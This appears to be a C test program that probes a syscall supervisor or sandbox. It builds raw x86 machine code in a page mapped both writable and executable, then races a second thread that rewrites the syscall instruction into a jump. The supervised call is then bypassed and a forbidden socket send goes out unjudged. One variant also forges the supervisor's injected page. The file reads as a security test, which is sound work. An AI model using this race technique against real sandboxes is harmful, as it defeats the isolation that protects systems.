// Changes the code that the supervisor has a stopped thread run.
//
// Usage: redirect-code WAY TRIES
//
// To get its page into a process, the supervisor has the calling thread make calls of the supervisor's
// choice, by the instruction that made the thread's own call. Where it takes for granted that this is
// what the thread does next, another thread can put a jump there, and the call that is made instead
// passes unjudged. Each try is a process of its own, since the page comes but once. Prints how many
// tries reached an abstract name.
//
//   syscall, int80    the instruction is changed as soon as memory appears where the page will be
//   sendmmsg          it is changed while the messages of one call are sent one after the other
//   seal              the changed code makes every call as it is told but mseal, which it answers itself;
//                     afterwards the page is replaced by memory of this program
//
// Natively nothing appears, and the instruction is changed after a while: the changed code reaches the
// name at once, but for `seal`, which then has nothing to replace. Descriptor 20 is a datagram socket bound to an abstract name.
#include <errno.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { TARGET = 20, PAGE_PLACE = 0x7e000000, MESSAGES = 64 };

static const char *way;
/// The code, as it is run and as it is written; below 4 GiB for 32-bit calls.
static uint8_t *code, *writable;
static size_t instruction;
static atomic_bool changed;
static struct sockaddr_un bad, good;
static socklen_t length;

/// Everything that a 32-bit call points to.
struct arena {
    struct sockaddr_un bad, good;
    struct mmsghdr messages[MESSAGES];
    struct iovec vector;
    char byte;
};
static struct arena *arena;

static void put(const void *bytes, size_t count) {
    memcpy(writable + instruction, bytes, count);
    instruction += count;
}

/// `int run(long number, socket, address, length)`, then code that sends to the abstract name.
static void write_code(void) {
    int narrow = strcmp(way, "int80") == 0;
    int file = memfd_create("code", 0);
    ftruncate(file, 4096);
    writable = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
    code = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_SHARED | MAP_32BIT, file, 0);
    close(file);
    // push rbx; push rbp; mov rax,rdi; then the arguments in their registers.
    put("\x53\x55\x48\x89\xf8", 5);
    if (narrow) {
        put("\x48\x89\xf3\x48\x87\xca", 6);           // mov rbx,rsi; xchg rdx,rcx
        put("\x31\xf6\x31\xff\x31\xed", 6);           // esi, edi and ebp 0
    } else {
        put("\x48\x89\xf7\x48\x89\xd6\x48\x89\xca", 9);  // rdi=rsi; rsi=rdx; rdx=rcx
        put("\x45\x31\xd2", 3);                       // xor r10d,r10d
    }
    size_t at = instruction;
    if (strcmp(way, "seal") == 0) {
        put("\x0f\x05\x5d\x5b\xc3", 5);
        put("\x3d\xce\x01\x00\x00\x75\x05", 7);     // cmp eax,462; jne over the next
        put("\xb8\x18\x00\x00\x00", 5);               // mov eax,24: sched_yield
        put("\x0f\x05\x5d\x5b\xc3", 5);
        instruction = at;
        return;
    }
    put(narrow ? "\xcd\x80" : "\x0f\x05", 2);
    put("\x5d\x5b\xc3", 3);                           // pop rbp; pop rbx; ret
    // What is jumped to: sendto(sender, &byte, 1, 0, &bad, length), then exit.
    uint32_t bad_at = (uint32_t)(uintptr_t)&arena->bad, byte_at = (uint32_t)(uintptr_t)&arena->byte;
    uint32_t size = length;
    if (narrow) {
        put("\xb8\x71\x01\x00\x00", 5);               // mov eax,369
        put("\xb9", 1), put(&byte_at, 4);             // mov ecx
        put("\xba\x01\x00\x00\x00\x31\xf6", 7);       // mov edx,1; xor esi,esi
        put("\xbf", 1), put(&bad_at, 4);              // mov edi
        put("\xbd", 1), put(&size, 4);                // mov ebp
        put("\xcd\x80", 2);
    } else {
        put("\xb8\x2c\x00\x00\x00", 5);               // mov eax,44
        put("\x48\x89\xdf", 3);                       // mov rdi,rbx
        put("\xbe", 1), put(&byte_at, 4);             // mov esi
        put("\xba\x01\x00\x00\x00\x45\x31\xd2", 8);   // mov edx,1; xor r10d,r10d
        put("\x41\xb8", 2), put(&bad_at, 4);          // mov r8d
        put("\x41\xb9", 2), put(&size, 4);            // mov r9d
        put("\x0f\x05", 2);
    }
    put("\xb8\xe7\x00\x00\x00\x31\xff\x0f\x05", 9);   // exit_group(0)
    instruction = at;
}

/// Waits for what shows that the supervisor is about to use the instruction, and puts a jump there.
static void *change(void *unused) {
    (void)unused;
    struct timespec now, end;
    clock_gettime(CLOCK_MONOTONIC, &end);
    end.tv_sec += 2;
    int sends = strcmp(way, "sendmmsg") == 0;
    do {
        clock_gettime(CLOCK_MONOTONIC, &now);
        // Natively nothing ever appears; a call that fails there has been made by then.
        if (sends ? arena->messages[0].msg_len != 0
                  : msync((void *)PAGE_PLACE, 4096, MS_ASYNC) == 0 || atomic_load(&changed)) {
            break;
        }
    } while (now.tv_sec < end.tv_sec);
    static const uint8_t jump[] = {0xeb, 3};
    for (;;) {
        *(volatile uint16_t *)(writable + instruction) = *(const uint16_t *)jump;
        // An emulator may miss a change of what it is about to translate, and never see it; the next one it does.
        nanosleep(&(struct timespec){.tv_nsec = 10000000}, NULL);
    }
}

/// Puts memory of this program in the page's place, full of the abstract name, and sends to a path.
_Noreturn static void forge_page(int sender) {
    size_t size = 16 << 20;
    munmap((void *)PAGE_PLACE, size);
    char *own = mmap((void *)PAGE_PLACE, size, PROT_READ | PROT_WRITE,
        MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
    for (size_t slot = 0; own != MAP_FAILED && slot < size; slot += 256) {
        memcpy(own + slot, &arena->bad, length);
    }
    sendto(sender, "x", 1, 0, (struct sockaddr *)&arena->good, length);
    _exit(0);
}

/// One try; the process ends in the changed code.
_Noreturn static void try_once(void) {
    int sender = socket(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK, 0);
    int sends = strcmp(way, "sendmmsg") == 0, narrow = strcmp(way, "int80") == 0;
    pthread_t thread;
    for (int i = 0; i < MESSAGES; i++) {
        arena->messages[i] = (struct mmsghdr){.msg_hdr = {.msg_name = &arena->good,
            .msg_namelen = length, .msg_iov = &arena->vector, .msg_iovlen = 1}};
    }
    if (sends) {
        // The page is there already; the messages have a receiver.
        int receiver = socket(AF_UNIX, SOCK_DGRAM, 0);
        unlink(arena->good.sun_path);
        bind(receiver, (struct sockaddr *)&arena->good, length);
    }
    pthread_create(&thread, NULL, change, NULL);
    // The socket is kept in rbx, which the supervisor leaves alone.
    for (int i = 0;; i++) {
        long number = sends ? SYS_sendmmsg : narrow ? 362 : SYS_connect, result;
        void *address = sends ? (void *)arena->messages : (void *)&arena->good;
        long size = sends ? MESSAGES : (long)length, socket_ = sender;
        __asm__ volatile("mov %%rsi, %%rbx\n\tcall *%[code]"
            : "=a"(result), "+D"(number), "+S"(socket_), "+d"(address), "+c"(size)
            : [code] "r"(code)
            : "rbx", "r8", "r9", "r10", "r11", "memory");
        (void)result;
        if (strcmp(way, "seal") == 0 && writable[instruction] == 0xeb) {
            forge_page(sender);
        }
        if (i == 1000) {
            atomic_store(&changed, 1);
        }
    }
}

int main(int count, char **words) {
    if (count != 3) {
        fputs("usage: redirect-code syscall|int80|sendmmsg|seal TRIES\n", stderr);
        return 2;
    }
    way = words[1];
    int tries = atoi(words[2]), reached = 0;
    length = sizeof bad;
    getsockname(TARGET, (struct sockaddr *)&bad, &length);
    good = bad;
    good.sun_path[0] = 'p';
    arena = mmap(NULL, sizeof *arena, PROT_READ | PROT_WRITE,
        MAP_SHARED | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    arena->bad = bad;
    arena->good = good;
    arena->vector = (struct iovec){&arena->byte, 1};
    write_code();
    uint8_t original[2];
    memcpy(original, writable + instruction, 2);
    for (int i = 0; i < tries; i++) {
        memcpy(writable + instruction, original, 2);
        pid_t child = fork();
        if (child == 0) {
            try_once();
        }
        waitpid(child, NULL, 0);
        char buffer[16];
        int received = 0;
        while (recv(TARGET, buffer, sizeof buffer, MSG_DONTWAIT) > 0) {
            received = 1;
        }
        reached += received;
    }
    printf("tries %d reached %d\n", tries, reached);
    return 0;
}
